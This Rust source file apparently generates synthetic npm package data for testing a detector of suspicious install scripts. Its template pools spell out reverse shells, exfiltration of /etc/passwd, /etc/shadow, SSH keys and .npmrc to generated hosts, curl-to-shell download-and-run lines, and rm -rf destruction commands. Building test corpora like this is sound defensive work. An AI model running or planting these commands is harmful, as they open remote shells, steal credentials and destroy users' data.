//! Word, domain and script pools for generated corpora.

use rand::seq::SliceRandom;
use rand::Rng;

use crate::signals::ScriptCategory;

pub const NAME_WORDS: &[&str] = &[
    "array", "async", "babel", "buffer", "cache", "chalk", "cli", "color", "config", "cookie", "core", "crypto",
    "css", "date", "debug", "deep", "diff", "dom", "dot", "emit", "env", "event", "express", "fast", "file",
    "format", "fs", "glob", "graph", "hash", "http", "icon", "image", "is", "json", "key", "lazy", "lint",
    "list", "log", "map", "markdown", "merge", "mime", "mini", "net", "node", "object", "parse", "path",
    "plugin", "promise", "proxy", "query", "react", "read", "redux", "regex", "render", "request", "route",
    "safe", "schema", "semver", "server", "shell", "slug", "socket", "sort", "stream", "string", "style",
    "sync", "table", "task", "tiny", "token", "tree", "type", "ui", "url", "util", "uuid", "validate", "vue",
    "watch", "web", "word", "xml", "yaml", "zip",
];

pub const SCOPES: &[&str] = &["acme", "corp", "devkit", "labs", "oss", "team", "tools"];

pub const FIRST_NAMES: &[&str] = &[
    "alex", "blair", "casey", "dana", "eli", "finley", "gray", "harper", "indigo", "jamie", "kai", "lee",
    "morgan", "noel", "oakley", "parker", "quinn", "reese", "sage", "taylor", "uma", "val", "wren", "yael",
];

pub const WEBMAIL: &[&str] = &["gmail.com", "outlook.com", "yahoo.com", "protonmail.com", "hotmail.com", "icloud.com"];

pub const TLDS: &[&str] = &["com", "io", "dev", "net", "org", "co"];

pub const VALID_LICENSES: &[&str] = &["MIT", "ISC", "Apache-2.0", "BSD-3-Clause", "BSD-2-Clause", "MPL-2.0"];

/// Denylisted values plus absence, for packages that should fail the
/// license check.
pub const INVALID_LICENSES: &[Option<&str>] =
    &[None, Some("UNLICENSED"), Some("XYZ"), Some("personal use"), Some("NONE"), Some(""), Some("n/a")];

pub const PLAIN_SCRIPTS: &[(&str, &str)] = &[
    ("test", "mocha"),
    ("test", "jest --coverage"),
    ("build", "tsc -p ."),
    ("build", "rollup -c"),
    ("lint", "eslint ."),
    ("prepublishOnly", "npm test"),
    ("start", "node index.js"),
    ("clean", "rm -rf dist"),
];

pub const EXTERNAL_DEPS: &[&str] = &["left-pad", "lodash", "minimist", "chalk", "debug", "semver", "tslib"];
pub const DEV_DEPS: &[&str] = &["mocha", "jest", "eslint", "typescript", "prettier", "rollup"];

pub const INSTALL_KEYS: &[&str] = &["postinstall", "preinstall", "install"];

/// Install bodies that carry no suspicious token.
pub const BENIGN_INSTALL: &[&str] = &[
    "node install.js",
    "node-gyp rebuild",
    "prebuild-install || node-gyp rebuild",
    "node scripts/postinstall.js",
    "husky install",
    "patch-package",
    "opencollective-postinstall || true",
    "node ./dist/setup.js",
];

/// A category the generator plants through keyword-bearing install scripts.
/// `None` stands for a benign body that still contains a keyword.
pub const PLANTED_CATEGORIES: [ScriptCategory; 5] = [
    ScriptCategory::ReverseShell,
    ScriptCategory::DataExfiltration,
    ScriptCategory::DownloadAndRun,
    ScriptCategory::DestructiveDelete,
    ScriptCategory::None,
];

const REVERSE_SHELL: &[&str] = &[
    "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
    "nc -e /bin/sh {ip} {port}",
    "ncat {ip} {port} -e /bin/bash && nc {ip} 80",
    "zsh -c 'zsh -i >& /dev/tcp/{ip}/{port} 0>&1'",
    "node -e \"require('child_process').exec('bash -i >& /dev/tcp/{ip}/{port} 0>&1')\"",
];

const EXFILTRATION: &[&str] = &[
    "curl -X POST http://{host}/c -d @/etc/passwd",
    "curl -s \"http://{host}/?h=$(hostname)&u=$(whoami)\"",
    "wget --post-file=/etc/shadow http://{host}/up",
    "cat ~/.ssh/id_rsa | curl -d @- https://{host}/k",
    "dig $(whoami).{host}",
    "curl -F f=@$HOME/.npmrc https://{host}/n",
];

const DOWNLOAD_RUN: &[&str] = &[
    "wget http://{host}/m.sh && chmod +x m.sh && ./m.sh",
    "curl -s https://{host}/setup.sh | sh",
    "curl -fsSL https://{host}/x | bash",
    "wget -qO- http://{host}/p | sudo sh",
    "curl -o /tmp/u http://{host}/u && chmod +x /tmp/u && /tmp/u",
    "curl -sO http://{host}/run.sh && sh run.sh",
];

const DESTRUCTIVE: &[&str] = &[
    "rm -rf ~/",
    "rm -rf /home/*",
    "rm -rf ./build && tsc",
    "rm -rf $HOME/.config",
    "rm -rf /",
    "find . -name '*.js' | xargs rm -rf ../..",
];

const BENIGN_WITH_TOKEN: &[&str] = &[
    "curl --version",
    "wget -q https://{host}/prebuilt.tgz -O vendor/prebuilt.tgz",
    "dig +short {host} > /dev/null || true",
    "node check.js || echo curl is required",
];

fn fill<R: Rng>(rng: &mut R, template: &str) -> String {
    let host = format!("{}-{}.{}", pick(rng, NAME_WORDS), rng.gen_range(10..999), pick(rng, TLDS));
    let ip = format!("{}.{}.{}.{}", rng.gen_range(11..223), rng.gen_range(0..255), rng.gen_range(0..255), rng.gen_range(1..254));
    template
        .replace("{host}", &host)
        .replace("{ip}", &ip)
        .replace("{port}", &rng.gen_range(1025..65535).to_string())
}

pub fn pick<'a, R: Rng, T: ?Sized>(rng: &mut R, pool: &'a [&'a T]) -> &'a T {
    pool.choose(rng).expect("non-empty pool")
}

/// An install-script body of the given category that also contains at
/// least one default suspicious token.
pub fn keyword_script<R: Rng>(rng: &mut R, category: ScriptCategory) -> String {
    let pool = match category {
        ScriptCategory::ReverseShell => REVERSE_SHELL,
        ScriptCategory::DataExfiltration => EXFILTRATION,
        ScriptCategory::DownloadAndRun => DOWNLOAD_RUN,
        ScriptCategory::DestructiveDelete => DESTRUCTIVE,
        ScriptCategory::None => BENIGN_WITH_TOKEN,
    };
    let t = pick(rng, pool);
    fill(rng, t)
}
